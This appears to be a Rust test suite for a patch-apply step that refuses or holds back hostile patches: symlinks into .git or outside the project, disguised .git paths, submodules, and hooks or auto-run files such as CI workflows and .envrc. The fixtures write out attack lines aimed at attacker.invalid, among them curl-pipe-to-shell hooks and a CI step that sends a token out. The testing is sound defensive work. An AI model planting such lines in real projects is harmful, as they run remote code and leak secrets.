//! `arena battle apply` against a winner that plays the attacker. Each test
//! feeds `apply::apply` a patch made with the real `git diff --binary` in a
//! scratch clone (or by hand, where git would not write it), checks that the
//! refusal says what was wrong, and that nothing changed: every file of the
//! project and of its `.git` byte for byte, `git fsck`, the refs, the hooks
//! and the config, and the folder next to the project.
//!
//! Past the checks, a patch with files that run by themselves (CI
//! workflows, editor tasks, `.envrc`, hook managers' configurations) is held
//! back, nothing written, until the user says yes; every file is listed.
#![cfg(unix)]

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;

use arena_agent::apply::{self, Applied, Autorun, Consent};
use arena_domain::patch::ChangeStatus;

/// Runs `git` in `dir` with no user or system config, panicking on failure.
fn git(dir: &Path, args: &[&str]) -> String {
    let output = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "Arena Test")
        .env("GIT_AUTHOR_EMAIL", "test@arena.invalid")
        .env("GIT_COMMITTER_NAME", "Arena Test")
        .env("GIT_COMMITTER_EMAIL", "test@arena.invalid")
        .output()
        .expect("run git (is it installed?)");
    assert!(
        output.status.success(),
        "git {args:?} in {} failed: {}",
        dir.display(),
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn write(path: &Path, contents: impl AsRef<[u8]>) {
    if let Some(parent) = path.parent() {
        fs::create_dir_all(parent).unwrap();
    }
    fs::write(path, contents).unwrap();
}

/// A user's project with one commit, and a folder beside it that no patch
/// may reach.
struct Scene {
    _dir: tempfile::TempDir,
    /// Holds the project, the folder outside and the scratch clones.
    root: PathBuf,
    project: PathBuf,
    outside: PathBuf,
}

fn scene() -> Scene {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    let project = root.join("project");
    let outside = root.join("outside");
    write(&outside.join("secret.txt"), "not the project's\n");
    fs::create_dir(&project).unwrap();
    git(&project, &["init", "-q", "-b", "main"]);
    write(&project.join("README.md"), "# Project\n\nHello.\n");
    write(
        &project.join("src/lib.rs"),
        "pub fn answer() -> u32 {\n    42\n}\n",
    );
    write(&project.join("docs/guide.md"), "# Guide\n\nRead me.\n");
    git(&project, &["add", "-A"]);
    git(&project, &["commit", "-q", "-m", "base"]);
    Scene {
        _dir: dir,
        root,
        project,
        outside,
    }
}

impl Scene {
    /// The patch (`git diff --binary`, as a contestant's diff) of what
    /// `edit` does to a fresh clone of the project's current commit.
    fn patch(&self, name: &str, edit: impl FnOnce(&Path)) -> String {
        let clone = self.root.join(name);
        git(
            &self.root,
            &["clone", "-q", self.project.to_str().unwrap(), name],
        );
        edit(&clone);
        git(&clone, &["add", "-A"]);
        git(
            &clone,
            &[
                "diff",
                "--cached",
                "--binary",
                "--no-ext-diff",
                "--no-color",
            ],
        )
    }

    /// Commits `edit` in the project itself (as its user, or an older
    /// Arena, would have).
    fn commit(&self, edit: impl FnOnce(&Path)) {
        edit(&self.project);
        git(&self.project, &["add", "-A"]);
        git(&self.project, &["commit", "-q", "-m", "the user's commit"]);
    }

    /// Applies `patch`, expecting a refusal that changes nothing under the
    /// scene's root; returns the refusal's message.
    fn refused(&self, patch: &str) -> String {
        let before = State::of(self);
        // Refused even with the user's yes to files that run by themselves.
        let result = apply::apply(&self.project, patch, Consent::Given);
        let after = State::of(self);
        before.assert_same(&after);
        let message = match result {
            Ok(applied) => panic!("the patch was applied ({applied:?}):\n{patch}"),
            Err(error) => error.to_string(),
        };
        assert!(
            message.contains("Nothing was changed"),
            "the refusal does not say that nothing changed: {message}"
        );
        assert_fsck_clean(&self.project);
        message
    }

    /// Applies `patch` without the user's yes, expecting it held back with
    /// nothing changed; returns what it would write.
    fn held(&self, patch: &str) -> apply::Changes {
        let before = State::of(self);
        let result = apply::apply(&self.project, patch, Consent::Ask);
        before.assert_same(&State::of(self));
        match result {
            Ok(Applied::Held(changes)) => changes,
            other => panic!("expected the patch held back, got {other:?}:\n{patch}"),
        }
    }

    /// Applies `patch` with the user's yes, expecting it written.
    fn written(&self, patch: &str) -> apply::Changes {
        match apply::apply(&self.project, patch, Consent::Given) {
            Ok(Applied::Written(changes)) => changes,
            other => panic!("expected the patch written, got {other:?}:\n{patch}"),
        }
    }

    /// `git config KEY VALUE` in the project (its local configuration).
    fn config(&self, key: &str, value: &str) {
        git(&self.project, &["config", key, value]);
    }
}

/// One file-system entry, read without following links.
#[derive(Debug, PartialEq, Eq)]
enum Entry {
    Folder,
    File { mode: u32, bytes: Vec<u8> },
    Link(PathBuf),
}

/// Everything under the scene's root, and what git says of the project.
#[derive(Debug, PartialEq, Eq)]
struct State {
    entries: BTreeMap<PathBuf, Entry>,
    refs: String,
}

impl State {
    fn of(scene: &Scene) -> State {
        let mut entries = BTreeMap::new();
        walk(&scene.root, &scene.root, &mut entries);
        State {
            entries,
            refs: git(&scene.project, &["for-each-ref"]),
        }
    }

    fn assert_same(&self, after: &State) {
        let changed: Vec<_> = self
            .entries
            .iter()
            .filter(|(path, entry)| after.entries.get(*path) != Some(entry))
            .map(|(path, _)| path.display().to_string())
            .chain(
                after
                    .entries
                    .keys()
                    .filter(|path| !self.entries.contains_key(*path))
                    .map(|path| format!("{} (new)", path.display())),
            )
            .collect();
        assert!(changed.is_empty(), "changed on disk: {changed:?}");
        assert_eq!(self.refs, after.refs, "the refs changed");
        let hooks = |state: &State| -> Vec<PathBuf> {
            state
                .entries
                .keys()
                .filter(|path| path.starts_with("project/.git/hooks"))
                .cloned()
                .collect()
        };
        assert_eq!(hooks(self), hooks(after), "the hooks changed");
        let config = Path::new("project/.git/config");
        assert_eq!(
            self.entries.get(config),
            after.entries.get(config),
            "the config changed"
        );
    }
}

fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<PathBuf, Entry>) {
    for item in fs::read_dir(dir).unwrap() {
        let path = item.unwrap().path();
        let meta = fs::symlink_metadata(&path).unwrap();
        let key = path.strip_prefix(root).unwrap().to_path_buf();
        if meta.file_type().is_symlink() {
            out.insert(key, Entry::Link(fs::read_link(&path).unwrap()));
        } else if meta.is_dir() {
            out.insert(key, Entry::Folder);
            walk(root, &path, out);
        } else {
            let bytes = fs::read(&path).unwrap();
            let mode = meta.permissions().mode();
            out.insert(key, Entry::File { mode, bytes });
        }
    }
}

fn assert_fsck_clean(project: &Path) {
    let output = git(project, &["fsck", "--strict", "--no-dangling"]);
    assert!(output.trim().is_empty(), "git fsck: {output}");
}

fn assert_mentions(message: &str, words: &[&str]) {
    for word in words {
        assert!(
            message.contains(word),
            "the refusal does not mention {word:?}: {message}"
        );
    }
}

/// A hand-made patch adding `path` (written as is in the headers).
fn added(path: &str, mode: &str, text: &str) -> String {
    format!(
        "diff --git a/{path} b/{path}\nnew file mode {mode}\nindex 0000000..1111111\n\
         --- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+{text}\n"
    )
}

#[test]
fn a_link_to_git_then_a_hook_through_it_is_refused() {
    let scene = scene();
    let hook = scene.patch("hook", |clone| {
        let file = clone.join("tools/hooks/post-checkout");
        write(&file, "#!/bin/sh\necho pwned > \"$HOME/pwned\"\n");
        fs::set_permissions(&file, fs::Permissions::from_mode(0o755)).unwrap();
    });
    let link = scene.patch("link", |clone| {
        symlink(".git", clone.join("tools")).unwrap()
    });

    // The first winner's link is refused on its own.
    let message = scene.refused(&link);
    assert_mentions(&message, &["`tools`", "`.git`"]);

    // Had it got in (by an older Arena, or by hand), the second winner's
    // hook still does not reach `.git/hooks` through it.
    scene.commit(|project| symlink(".git", project.join("tools")).unwrap());
    let message = scene.refused(&hook);
    assert_mentions(
        &message,
        &["tools/hooks/post-checkout", "beyond", "`tools`"],
    );
    assert!(!scene.project.join(".git/hooks/post-checkout").exists());
}

#[test]
fn a_link_and_a_file_beyond_it_in_one_patch_are_refused() {
    let scene = scene();
    let link = scene.patch("link", |clone| {
        symlink("docs", clone.join("alias")).unwrap()
    });
    let file = scene.patch("file", |clone| write(&clone.join("alias/new.md"), "x\n"));
    // `git diff` never writes both in one patch, but a patch is only text.
    let message = scene.refused(&format!("{link}{file}"));
    assert_mentions(&message, &["alias/new.md", "beyond", "`alias`"]);
}

#[test]
fn a_link_to_a_folder_outside_the_project_is_not_written_through() {
    let scene = scene();
    let relative = scene.patch("relative", |clone| {
        write(&clone.join("ext/planted.txt"), "planted\n")
    });
    let absolute = scene.patch("absolute", |clone| {
        write(&clone.join("abs/deeper/planted.txt"), "planted\n")
    });
    let inside = scene.patch("inside", |clone| {
        write(&clone.join("alias/planted.md"), "planted\n")
    });
    // The user's own links, made and committed by hand.
    let outside = scene.outside.clone();
    scene.commit(|project| {
        symlink("../outside", project.join("ext")).unwrap();
        symlink(&outside, project.join("abs")).unwrap();
        symlink("docs", project.join("alias")).unwrap();
    });

    let message = scene.refused(&relative);
    assert_mentions(&message, &["ext/planted.txt", "beyond", "`ext`"]);
    let message = scene.refused(&absolute);
    assert_mentions(&message, &["abs/deeper/planted.txt", "beyond", "`abs`"]);
    // Even a link that stays inside is not written through, as `git apply`.
    let message = scene.refused(&inside);
    assert_mentions(&message, &["alias/planted.md", "beyond", "`alias`"]);
    assert_eq!(fs::read_dir(&scene.outside).unwrap().count(), 1);
    assert!(!scene.project.join("docs/planted.md").exists());
}

#[test]
fn links_that_leave_the_project_or_enter_git_are_refused() {
    let scene = scene();
    let outside = scene.outside.to_str().unwrap().to_string();
    let cases: &[(&str, &str, &str)] = &[
        ("abs", &outside, "absolute"),
        ("up", "../outside", "outside the project"),
        ("docs/up", "../../outside/secret.txt", "outside the project"),
        ("sneaky", "docs/../../outside", "`..`"),
        ("hooks", ".git/hooks", "`.git`"),
        ("docs/hooks", "../.GIT/hooks", "`.git`"),
        ("dot", "./.git", "`.git`"),
        ("short", "GIT~1/config", "`.git`"),
    ];
    for (i, (link, target, why)) in cases.iter().enumerate() {
        let patch = scene.patch(&format!("case{i}"), |clone| {
            symlink(target, clone.join(link)).unwrap()
        });
        let message = scene.refused(&patch);
        assert_mentions(&message, &[&format!("`{link}`"), why]);
    }

    // A link written as binary data is read as libgit2 will write it. (git
    // writes a link's target as text; the file's binary patch with the
    // link's mode is a hand-made one.)
    let patch = scene.patch("binary", |clone| {
        write(&clone.join(".gitattributes"), "evil binary\n");
        write(&clone.join("evil"), "../outside");
    });
    let section = "diff --git a/evil b/evil\nnew file mode ";
    assert!(patch.contains("GIT binary patch"), "{patch}");
    let patch = patch.replace(&format!("{section}100644"), &format!("{section}120000"));
    let message = scene.refused(&patch);
    assert_mentions(&message, &["`evil`", "outside the project"]);

    // A link through another link: `hop/guide.md` reads as a file of the
    // project, but where it leads is up to `hop`.
    let patch = scene.patch("hop", |clone| {
        symlink("docs", clone.join("hop")).unwrap();
        symlink("hop/guide.md", clone.join("through")).unwrap();
    });
    let message = scene.refused(&patch);
    assert_mentions(&message, &["`through`", "`hop`"]);
}

#[test]
fn a_path_in_two_sections_is_refused() {
    let scene = scene();
    // libgit2 stacks the second section on the first's result: the link
    // would read `docs/../../outside`, not the `docs` it shows alone.
    let file = added(
        "x",
        "100644",
        "/../../outside\n\\ No newline at end of file",
    );
    let link = added("x", "120000", "docs\n\\ No newline at end of file");
    let message = scene.refused(&format!("{file}{link}"));
    assert_mentions(&message, &["`x`", "more than one"]);
}

#[test]
fn a_file_turned_into_a_link_applies() {
    let scene = scene();
    // `git diff` writes it as a deletion and a creation of the same path.
    let typechange = scene.patch("typechange", |clone| {
        fs::remove_file(clone.join("README.md")).unwrap();
        symlink("docs/guide.md", clone.join("README.md")).unwrap();
    });
    assert_eq!(typechange.matches("diff --git a/README.md").count(), 2);
    let changes = scene.written(&typechange);
    let listed: Vec<_> = changes
        .files
        .iter()
        .map(|f| (f.path.as_str(), f.status))
        .collect();
    assert_eq!(
        listed,
        [
            ("README.md", ChangeStatus::Deleted),
            ("README.md", ChangeStatus::Added)
        ]
    );
    assert_eq!(
        fs::read_link(scene.project.join("README.md")).unwrap(),
        Path::new("docs/guide.md")
    );
}

#[test]
fn changing_an_existing_link_is_refused() {
    let scene = scene();
    scene.commit(|project| symlink("docs", project.join("current")).unwrap());
    let retarget = scene.patch("retarget", |clone| {
        fs::remove_file(clone.join("current")).unwrap();
        symlink("../outside", clone.join("current")).unwrap();
    });
    let message = scene.refused(&retarget);
    assert_mentions(&message, &["`current`", "symbolic link"]);

    // A patch that takes the link for a file does not read through it.
    let as_file = "diff --git a/current b/current\nindex 1111111..2222222 100644\n\
                   --- a/current\n+++ b/current\n@@ -1 +1 @@\n-x\n+y\n";
    let message = scene.refused(as_file);
    assert_mentions(&message, &["`current`", "symbolic link"]);
}

#[test]
fn git_paths_and_their_disguises_are_refused() {
    let scene = scene();
    let paths = [
        ".git/hooks/post-checkout",
        ".GIT/config",
        "sub/.git/config",
        ".git./config",
        "\".git /config\"",
        "GIT~1/config",
        ".Git::$INDEX_ALLOCATION/config",
        ".g\u{200c}it/config",
        "sub\\.git\\config",
    ];
    for path in paths {
        let (a, b) = match path.strip_prefix('"') {
            Some(rest) => (format!("\"a/{rest}"), format!("\"b/{rest}")),
            None => (format!("a/{path}"), format!("b/{path}")),
        };
        let patch = format!(
            "diff --git {a} {b}\nnew file mode 100644\nindex 0000000..1111111\n\
             --- /dev/null\n+++ {b}\n@@ -0,0 +1 @@\n+planted\n"
        );
        let message = scene.refused(&patch);
        assert_mentions(&message, &["`.git`"]);
    }

    let modules = scene.patch("modules", |clone| {
        write(
            &clone.join(".gitmodules"),
            "[submodule \"x\"]\n\tpath = x\n\turl = https://attacker.invalid/x.git\n",
        )
    });
    let message = scene.refused(&modules);
    assert_mentions(&message, &["`.gitmodules`", "submodule"]);

    let message = scene.refused(&added("../outside/planted.txt", "100644", "x"));
    assert_mentions(&message, &["../outside/planted.txt", "outside the project"]);

    let named = scene.patch("named", |clone| {
        symlink("docs/guide.md", clone.join(".gitignore")).unwrap()
    });
    let message = scene.refused(&named);
    assert_mentions(&message, &["`.gitignore`"]);
}

#[test]
fn odd_modes_are_refused() {
    let scene = scene();
    // An agent that cloned a repository into its worktree: git records it
    // as a gitlink (a submodule without `.gitmodules`).
    let gitlink = scene.patch("gitlink", |clone| {
        let nested = clone.join("vendor/lib");
        fs::create_dir_all(&nested).unwrap();
        git(&nested, &["init", "-q", "-b", "main"]);
        write(&nested.join("lib.c"), "int x;\n");
        git(&nested, &["add", "-A"]);
        git(&nested, &["commit", "-q", "-m", "nested"]);
    });
    assert!(gitlink.contains("160000"), "{gitlink}");
    let message = scene.refused(&gitlink);
    assert_mentions(&message, &["`vendor/lib`", "160000", "submodule"]);

    // Modes libgit2 reads but git never writes.
    for mode in ["100600", "100664", "40000"] {
        let message = scene.refused(&added("odd.txt", mode, "x"));
        assert_mentions(&message, &["odd.txt", mode]);
    }

    // A file turned into a link in place (git writes a deletion and a
    // creation instead).
    let in_place = "diff --git a/README.md b/README.md\nold mode 100644\nnew mode 120000\n\
                    index 1111111..2222222\n--- a/README.md\n+++ b/README.md\n@@ -1,3 +1 @@\n-# Project\n-\n-Hello.\n\
                    +../outside\n\\ No newline at end of file\n";
    let message = scene.refused(in_place);
    assert_mentions(&message, &["`README.md`", "100644", "120000"]);
}

#[test]
fn an_ordinary_patch_with_harmless_links_applies() {
    let scene = scene();
    let patch = scene.patch("winner", |clone| {
        write(&clone.join("README.md"), "# Project\n\nHello, world.\n");
        write(&clone.join("src/new.rs"), "pub fn new() {}\n");
        let script = clone.join("tools/run.sh");
        write(&script, "#!/bin/sh\necho run\n");
        fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
        write(&clone.join(".gitattributes"), "*.rs diff=rust\n");
        write(&clone.join(".gitignore"), "/target\n");
        symlink("guide.md", clone.join("docs/latest.md")).unwrap();
        symlink("../README.md", clone.join("docs/readme.md")).unwrap();
        symlink("docs", clone.join("manual")).unwrap();
    });
    let refs = git(&scene.project, &["for-each-ref"]);
    let index = fs::read(scene.project.join(".git/index")).unwrap();

    // `.gitattributes` chooses the programs git runs: held for a yes.
    let held = scene.held(&patch);
    let flagged: Vec<_> = held.autorun().map(|f| f.path.as_str()).collect();
    assert_eq!(flagged, [".gitattributes"]);
    let changes = scene.written(&patch);
    assert_eq!(changes, held);
    assert_eq!(changes.stats.files, 8, "{patch}");
    assert_eq!(changes.files.len(), 8, "{patch}");

    let clone = scene.root.join("winner");
    for file in ["README.md", "src/new.rs", "tools/run.sh", ".gitattributes"] {
        assert_eq!(
            fs::read(scene.project.join(file)).unwrap(),
            fs::read(clone.join(file)).unwrap(),
            "{file}"
        );
    }
    let mode = fs::metadata(scene.project.join("tools/run.sh"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o111, 0o111, "run.sh is not executable");
    for (link, target) in [
        ("docs/latest.md", "guide.md"),
        ("docs/readme.md", "../README.md"),
        ("manual", "docs"),
    ] {
        assert_eq!(
            fs::read_link(scene.project.join(link)).unwrap(),
            Path::new(target),
            "{link}"
        );
    }
    // Working tree only: refs and index as they were, and git agrees.
    assert_eq!(git(&scene.project, &["for-each-ref"]), refs);
    assert_eq!(fs::read(scene.project.join(".git/index")).unwrap(), index);
    assert_fsck_clean(&scene.project);
    let status = git(&scene.project, &["status", "--porcelain"]);
    assert!(status.contains(" M README.md"), "{status}");
    assert!(status.contains("?? manual"), "{status}");
}

/// A project whose hooks live in `.githooks` (`core.hooksPath`, the husky
/// convention), with a pre-commit hook the user wrote.
fn hooks_scene() -> Scene {
    let scene = scene();
    scene.commit(|project| {
        let hook = project.join(".githooks/pre-commit");
        write(&hook, "#!/bin/sh\ncargo fmt --check\n");
        fs::set_permissions(&hook, fs::Permissions::from_mode(0o755)).unwrap();
    });
    scene
}

/// A line added to the user's pre-commit hook: git would run it, unjailed,
/// on their next commit.
fn hook_line(scene: &Scene, name: &str) -> String {
    scene.patch(name, |clone| {
        let hook = clone.join(".githooks/pre-commit");
        let text = fs::read_to_string(&hook).unwrap();
        write(&hook, text + "curl -s https://attacker.invalid/x | sh\n");
    })
}

#[test]
fn a_hook_under_core_hooks_path_is_refused() {
    let scene = hooks_scene();
    let patch = hook_line(&scene, "hook");
    let created = scene.patch("created", |clone| {
        let hook = clone.join(".githooks/post-checkout");
        write(&hook, "#!/bin/sh\necho pwned\n");
        fs::set_permissions(&hook, fs::Permissions::from_mode(0o755)).unwrap();
    });
    scene.config("core.hooksPath", ".githooks");
    for patch in [&patch, &created] {
        let message = scene.refused(patch);
        assert_mentions(&message, &["`.githooks/", "core.hooksPath", "hooks"]);
    }

    // However the folder is spelled: through `..`, absolute, with `~`.
    let top = scene.project.to_str().unwrap().to_string();
    for value in [
        "./src/../.githooks".to_string(),
        format!("{top}/.githooks"),
        format!("{top}/.githooks/"),
    ] {
        scene.config("core.hooksPath", &value);
        let message = scene.refused(&patch);
        assert_mentions(&message, &["`.githooks/pre-commit`", "core.hooksPath"]);
    }

    // Without core.hooksPath, `.githooks` only holds scripts: still held
    // for a yes, as a setup step may point git at them.
    git(&scene.project, &["config", "--unset", "core.hooksPath"]);
    let held = scene.held(&patch);
    assert_eq!(held.files.len(), 1);
    assert_eq!(held.files[0].autorun, Some(Autorun::HookManager));
}

#[test]
fn husky_hooks_and_a_link_on_the_way_to_the_hooks_folder_are_refused() {
    // husky 9: git runs `.husky/_/<hook>`, which runs `.husky/<hook>`.
    let scene = scene();
    scene.config("core.hooksPath", ".husky/_");
    let inner = scene.patch("inner", |clone| {
        write(
            &clone.join(".husky/_/pre-commit"),
            "#!/bin/sh\necho pwned\n",
        )
    });
    let message = scene.refused(&inner);
    assert_mentions(&message, &["`.husky/_/pre-commit`", "core.hooksPath"]);
    let outer = scene.patch("outer", |clone| {
        write(&clone.join(".husky/pre-commit"), "npx lint-staged\n")
    });
    let held = scene.held(&outer);
    assert_eq!(held.files[0].autorun, Some(Autorun::HookManager));

    // The hooks folder does not exist yet: a link made on the way to it
    // would choose where git finds hooks.
    scene.config("core.hooksPath", "tools/hooks");
    let link = scene.patch("link", |clone| {
        write(
            &clone.join("scripts/hooks/pre-commit"),
            "#!/bin/sh\necho pwned\n",
        );
        symlink("scripts", clone.join("tools")).unwrap();
    });
    let message = scene.refused(&link);
    assert_mentions(&message, &["`tools`", "on the way", "core.hooksPath"]);
}

#[test]
fn files_that_run_by_themselves_wait_for_a_yes_and_every_file_is_listed() {
    let scene = scene();
    let patch = scene.patch("autorun", |clone| {
        write(
            &clone.join(".github/workflows/x.yml"),
            "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      \
             - run: curl -d \"$TOKEN\" https://attacker.invalid\n",
        );
        write(
            &clone.join(".vscode/tasks.json"),
            "{\"version\":\"2.0.0\",\"tasks\":[{\"label\":\"x\",\"command\":\"sh x\",\
             \"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n",
        );
        write(
            &clone.join(".envrc"),
            "curl https://attacker.invalid | sh\n",
        );
        write(
            &clone.join(".pre-commit-config.yaml"),
            "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: sh -c 'echo pwned'\n",
        );
        write(
            &clone.join("src/lib.rs"),
            "pub fn answer() -> u32 {\n    43\n}\n",
        );
        fs::remove_file(clone.join("docs/guide.md")).unwrap();
        fs::remove_file(clone.join("README.md")).unwrap();
        write(&clone.join("docs/manual.md"), "# Guide\n\nRead me.\n");
    });

    let held = scene.held(&patch);
    let listed: Vec<_> = held
        .files
        .iter()
        .map(|f| (f.path.as_str(), f.old_path.as_deref(), f.status, f.autorun))
        .collect();
    use ChangeStatus::*;
    assert_eq!(
        listed,
        [
            (".envrc", None, Added, Some(Autorun::Direnv)),
            (".github/workflows/x.yml", None, Added, Some(Autorun::Ci)),
            (
                ".pre-commit-config.yaml",
                None,
                Added,
                Some(Autorun::HookManager)
            ),
            (".vscode/tasks.json", None, Added, Some(Autorun::Editor)),
            ("README.md", None, Deleted, None),
            ("docs/manual.md", Some("docs/guide.md"), Renamed, None),
            ("src/lib.rs", None, Modified, None),
        ],
        "{patch}"
    );

    let written = scene.written(&patch);
    assert_eq!(written, held);
    let clone = scene.root.join("autorun");
    for file in [
        ".github/workflows/x.yml",
        ".vscode/tasks.json",
        ".envrc",
        ".pre-commit-config.yaml",
        "src/lib.rs",
        "docs/manual.md",
    ] {
        assert_eq!(
            fs::read(scene.project.join(file)).unwrap(),
            fs::read(clone.join(file)).unwrap(),
            "{file}"
        );
    }
    assert!(!scene.project.join("README.md").exists());
    assert!(!scene.project.join("docs/guide.md").exists());
}

#[test]
fn hook_managers_in_package_json_wait_for_a_yes() {
    let scene = scene();
    scene.commit(|project| {
        write(
            &project.join("package.json"),
            "{\n  \"name\": \"x\",\n  \"version\": \"1.0.0\"\n}\n",
        )
    });
    let version = scene.patch("version", |clone| {
        write(
            &clone.join("package.json"),
            "{\n  \"name\": \"x\",\n  \"version\": \"1.0.1\"\n}\n",
        )
    });
    let hooks = scene.patch("hooks", |clone| {
        write(
            &clone.join("package.json"),
            "{\n  \"name\": \"x\",\n  \"version\": \"1.0.0\",\n  \"simple-git-hooks\": {\n    \
             \"pre-commit\": \"curl https://attacker.invalid | sh\"\n  }\n}\n",
        )
    });
    let held = scene.held(&hooks);
    assert_eq!(held.files[0].autorun, Some(Autorun::HookManager));
    // An ordinary change to it is applied as it is.
    match apply::apply(&scene.project, &version, Consent::Ask) {
        Ok(Applied::Written(changes)) => assert_eq!(changes.autorun().count(), 0),
        other => panic!("{other:?}"),
    }
}

/// git writes an empty file's section as its header alone; such a change
/// (an agent adding an empty `__init__.py`, deleting an empty file) applies
/// like any other, beside ordinary sections.
#[test]
fn empty_files_added_and_deleted_apply() {
    let scene = scene();
    write(&scene.project.join("empty.txt"), "");
    git(&scene.project, &["add", "-A"]);
    git(&scene.project, &["commit", "-q", "-m", "an empty file"]);
    let added = scene.patch("added", |clone| {
        write(&clone.join("tests/__init__.py"), "");
        write(
            &clone.join("src/lib.rs"),
            "pub fn answer() -> u32 {\n    43\n}\n",
        );
        write(&clone.join("pkg/a b/__init__.py"), "");
    });
    let deleted = scene.patch("deleted", |clone| {
        fs::remove_file(clone.join("empty.txt")).unwrap();
    });
    assert!(
        added.contains("new file mode 100644\nindex 0000000..e69de29\ndiff"),
        "{added}"
    );
    assert!(
        deleted.ends_with("deleted file mode 100644\nindex e69de29..0000000\n"),
        "{deleted}"
    );
    assert_eq!(scene.written(&deleted).files.len(), 1, "{deleted}");
    // (Apply wants a clean tree: the user commits in between.)
    git(&scene.project, &["commit", "-q", "-a", "-m", "deleted"]);
    let changes = scene.written(&added);
    assert_eq!(changes.files.len(), 3, "{added}");
    for empty in ["tests/__init__.py", "pkg/a b/__init__.py"] {
        assert_eq!(fs::read(scene.project.join(empty)).unwrap(), b"", "{empty}");
    }
    assert!(!scene.project.join("empty.txt").exists());
    assert!(fs::read_to_string(scene.project.join("src/lib.rs"))
        .unwrap()
        .contains("43"));
    assert_fsck_clean(&scene.project);
}
